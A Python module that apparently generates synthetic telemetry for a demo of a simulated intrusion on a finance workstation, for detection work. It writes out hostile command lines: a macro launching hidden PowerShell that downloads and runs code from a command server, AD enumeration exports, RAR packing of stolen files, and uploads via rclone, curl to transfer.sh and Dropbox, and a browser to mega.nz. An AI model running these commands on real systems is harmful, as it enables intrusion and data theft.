"""The intrusion on fin-ws-114, where it begins and where the intruder comes back to."""

from __future__ import annotations

from tui.evidence.demo.acts import known_address
from tui.evidence.demo.images import IMAGES
from tui.evidence.demo.legs import CONTEXT
from tui.evidence.demo.stories.intruder import (
    COMMAND_NAME,
    COMMAND_SERVER,
    SENSITIVE,
    TOOLS,
    Intruder,
    documents,
)
from tui.evidence.demo.timing import MINUTE, SECOND

_HOME = "fin-ws-114"
_IN = TOOLS + "in\\"
_OUT = TOOLS + "out\\"
_VOLUME = 95 * 1024 * 1024


def entry(intruder: Intruder, at: int) -> None:
    """A macro in a mailed document starts PowerShell, which fetches renamed tools and stays as wsmhelper.exe."""
    recorder = intruder.recorder
    with recorder.planted("intrusion", note="entry by a mailed document with a macro"):
        mail = recorder.running(_HOME, "outlook", at)
        document = (
            "C:\\Users\\j.doe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Freight claim 4471.docm"
        )
        recorder.write(mail, document, 210_000, at)
        word = recorder.start("winword", f'"{{image}}" /n "{document}"', mail, at + 20 * SECOND)
        shell = recorder.start("cmd", "{image} /c start /b powershell -w hidden", word, at + 31 * SECOND)
        loader = intruder.hidden_script("powershell", f"iwr https://{COMMAND_NAME}/s | iex", shell, at + 32 * SECOND)
        recorder.connect(loader, at + 35 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
        for number, key in enumerate(key for key in IMAGES if key.endswith("_renamed") and "tcpdump" not in key):
            image = IMAGES[key]
            recorder.write(loader, image.path, image.size, at + (40 + 3 * number) * SECOND, sha1=image.sha1)
        command = f'"{{image}}" -NoProfile -w hidden -File {TOOLS}hs.ps1'
        implant = recorder.start("powershell_renamed", command, loader, at + 75 * SECOND)
        recorder.connect(implant, at + 77 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    intruder.footholds[_HOME] = implant


def exports(intruder: Intruder, at: int) -> None:
    """T1119-05: directory and share listings, twice encoded through pwsh, once in plain sight."""
    recorder, implant = intruder.recorder, intruder.shell(_HOME)
    with recorder.planted("T1119-05", note="listing exported by an encoded command"):
        lists = (
            ("pwsh", "users.csv", "Get-ADUser -Filter * -Properties * | Export-Csv"),
            ("pwsh", "computers.csv", "Get-ADComputer -Filter * | Export-Csv"),
            ("pwsh", "groups.json", "Get-ADGroup -Filter * | ConvertTo-Json | Set-Content"),
            ("powershell_renamed", "trusts.csv", "Get-ADTrust -Filter * | Export-Csv"),
        )
        for number, (image, name, source) in enumerate(lists):
            when = at + 3 * MINUTE + number * 75 * SECOND
            shell = intruder.hidden_script(image, f"{source} {_OUT}{name}", implant, when)
            recorder.connect(shell, when + 4 * SECOND, recorder.estate.device("dc01"), 389)
            recorder.write(shell, _OUT + name, 400_000 + 70_000 * number, when + 12 * SECOND)
            recorder.connect(shell, when + 20 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-05", note="share listing exported in plain sight"):
        for number, share in enumerate(("Finance", "People")):
            when = at + (13 + number * 2) * MINUTE
            path = f"{_OUT}{share.lower()}.txt"
            script = f"Get-ChildItem \\\\fs01\\{share} -Recurse | Out-File {path}"
            shell = recorder.start("powershell", f'powershell.exe -Command "{script}"', implant, when)
            recorder.event(shell, when + SECOND, "PowerShellCommand", additional='{"Command":"Out-File"}')
            recorder.write(shell, path, 2_400_000, when + 40 * SECOND)


def captures(intruder: Intruder, at: int) -> None:
    """T1119-04: three ways to capture, one after the other."""
    recorder, implant = intruder.recorder, intruder.shell(_HOME)
    with recorder.planted("T1119-04", leg=CONTEXT, note="a shell for the captures"):
        shell = recorder.start("cmd", "{image}", implant, at, integrity="High")
    with recorder.planted("T1119-04", note="traffic capture"):
        tries = (
            ("pktmon", f"pktmon start --capture --pkt-size 0 --file-name {_OUT}pm.etl", "pm.etl"),
            ("netsh", f"netsh trace start capture=yes maxsize=200 tracefile={_OUT}nt.etl", "nt.etl"),
            ("dumpcap_renamed", f'"{{image}}" -i 1 -b filesize:20000 -w {_OUT}wire.pcapng', "wire.pcapng"),
        )
        for number, (image, command, name) in enumerate(tries):
            when = at + (1 + 12 * number) * MINUTE
            intruder.capture(shell, image, command, _OUT + name, when, size=20_480_000 + number)


def shares(intruder: Intruder, at: int) -> None:
    """T1119-10: nine servers within the hour, with net use, New-SmbMapping and pushd."""
    recorder, implant = intruder.recorder, intruder.shell(_HOME)
    servers = ("fs01", "fs02", "dc01", "dc02", "bkp-03", "db-01", "deploy-01", "web-01", "sync-01")
    with recorder.planted("T1119-10", leg=CONTEXT, note="a shell for the mappings"):
        shell = recorder.start("cmd", "{image}", implant, at)
    with recorder.planted("T1119-10", note="shares of many servers tried within the hour"):
        end = intruder.map_shares(shell, servers, at + SECOND)
        recorder.start("cmd", "{image} /c pushd \\\\fs01\\Finance && dir /s /b", shell, end)
        recorder.share_connection(shell.device, "fs01", end + SECOND)
        recorder.share_connection(shell.device, "fs02", end + 9 * SECOND, 139)


def copies(intruder: Intruder, at: int) -> None:
    """T1119-01 and T1119-08: fs01 read with a renamed robocopy; T1119-03 and T1119-07: scripts that pack and copy."""
    recorder, implant = intruder.recorder, intruder.shell(_HOME)
    with recorder.planted("T1119-01", "T1119-10", note="renamed robocopy reads the finance share"):
        command = f'"{{image}}" \\\\fs01\\Finance {_IN}fin /e /copy:dat /r:0 /mt:8'
        tool = recorder.start("robocopy_renamed", command, implant, at)
        end = intruder.read_files(tool, documents("ledger", 140), "fs01", "Finance", _IN + "fin\\", at + SECOND)
        with recorder.planted("T1119-08", note="sensitive files among those copied"):
            end = intruder.read_files(tool, SENSITIVE, "fs01", "Finance", _IN + "fin\\", end)
    with recorder.planted("T1119-08", note="sensitive files read and moved"):
        intruder.sensitive_reads(implant, end, _IN + "fin\\")
        for number, verb in enumerate(("copy", "move")):
            command = f"{{image}} /c {verb} {_IN}fin\\*payroll* {_OUT}"
            recorder.start("cmd", command, implant, end + (10 + number * 10) * SECOND)
    with recorder.planted("T1119-03", note="renamed PowerShell archives a share"):
        for number, share in enumerate(("People", "Public")):
            when = end + (1 + number * 4) * MINUTE
            command = f'"{{image}}" -Command "& {TOOLS}hs.ps1 -Verb archive -Path \\\\fs01\\{share}\\* -Recurse"'
            script = recorder.start("powershell_renamed", command, implant, when)
            recorder.share_connection(script.device, "fs01", when + 2 * SECOND)
            recorder.write(script, f"{_OUT}{share.lower()}.zip", 71_000_000 + number, when + 50 * SECOND)
            recorder.connect(script, when + 60 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-07", note="batch script copies and packs"):
        for run in range(6):
            when = end + 8 * MINUTE + run * 45 * SECOND
            script = recorder.start("cmd", f"{{image}} /c {TOOLS}grab.bat copy backup", implant, when)
            copy = intruder.child("robocopy_renamed", f'"{{image}}" \\\\fs01\\People {_IN}hr /e', script, when + SECOND)
            recorder.share_connection(copy.device, "fs01", when + 2 * SECOND)
            recorder.write(copy, f"{_IN}hr\\review {run}.docx", 90_000, when + 3 * SECOND)
            pack = intruder.child(
                "seven_zip_renamed", f'"{{image}}" a {_OUT}hr{run}.zip {_IN}hr', script, when + 20 * SECOND
            )
            recorder.write(pack, f"{_OUT}hr{run}.zip", 44_000_000, when + 31 * SECOND)
            recorder.connect(script, when + 36 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)


def archives_and_upload(intruder: Intruder, at: int) -> None:
    """T1119-02: nine RAR volumes of 95 MB; T1119-09: they leave by rclone, curl and a browser."""
    recorder, implant = intruder.recorder, intruder.shell(_HOME)
    at += 15 * MINUTE
    with recorder.planted("T1119-02", leg=CONTEXT, note="a shell for packing, a word with the command server"):
        shell = recorder.start("cmd", "{image}", implant, at)
        recorder.connect(implant, at + 4 * MINUTE, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-02", note="split RAR volumes below 100 MB"):
        command = f'"{{image}}" a -r -v95m -hpQ7wharf {_OUT}fin.rar {_IN}fin'
        tool = recorder.start("rar_renamed", command, shell, at + SECOND)
        for volume in range(1, 10):
            recorder.write(tool, f"{_OUT}fin.part{volume}.rar", _VOLUME - volume, at + volume * 21 * SECOND)
        recorder.connect(shell, at + 4 * MINUTE + SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    at += 8 * MINUTE
    with recorder.planted("T1119-09", note="upload by rclone under another name"):
        sync = recorder.start("rclone_renamed", f'"{{image}}" copy {_OUT} m:in --transfers 4', shell, at)
        for number, url in enumerate(("g.api.mega.co.nz", "gfs270n114.userstorage.mega.co.nz", "mega.nz")):
            intruder.upload(sync, at + (number * 3 + 1) * MINUTE, known_address(url), url, 8)
    with recorder.planted("T1119-09", note="upload by curl"):
        url = "transfer.sh"
        curl = recorder.start("curl", f"curl.exe -T {_OUT}fin.part9.rar https://{url}/f9", shell, at + 11 * MINUTE)
        intruder.upload(curl, at + 11 * MINUTE + SECOND, known_address(url), url, 3)
        url = "content.dropboxapi.com"
        curl = recorder.start(
            "curl", f"curl.exe -F f=@{_OUT}users.csv https://{url}/2/files/upload", shell, at + 13 * MINUTE
        )
        intruder.upload(curl, at + 13 * MINUTE + SECOND, known_address(url), url, 4)


def return_visit(intruder: Intruder, at: int) -> None:
    """Back by remote desktop from the jump host: the last files through tsclient, an upload with the browser."""
    recorder = intruder.recorder
    jump = intruder.take_desktop(intruder.shell(_HOME), "adm-jump-01", at - 2 * MINUTE, 60)
    shell = intruder.take_desktop(jump, _HOME, at, 50)
    with recorder.planted("T1119-01", "T1119-08", note="files taken through the desktop's drive"):
        command = f"xcopy {_IN}fin\\*.kdbx \\\\tsclient\\C\\ProgramData\\Helper\\in /y"
        copy = recorder.start("xcopy", command, shell, at + 3 * MINUTE)
        for number, (name, label) in enumerate(SENSITIVE[:4]):
            when = at + (185 + number * 5) * SECOND
            recorder.write(copy, f"\\\\tsclient\\C\\ProgramData\\Helper\\in\\{name}", 90_000, when, label=label)
    with recorder.planted("T1119-09", leg=CONTEXT, note="a browser opened for the upload"):
        browser = recorder.start("chrome", '"{image}" --incognito https://mega.nz/start', shell, at + 10 * MINUTE)
    with recorder.planted("T1119-09", note="upload with the browser"):
        for url in ("mega.nz", "g.api.mega.co.nz", "nw-claims.s3.amazonaws.com"):
            intruder.upload(browser, at + 11 * MINUTE, known_address(url), url, 4)
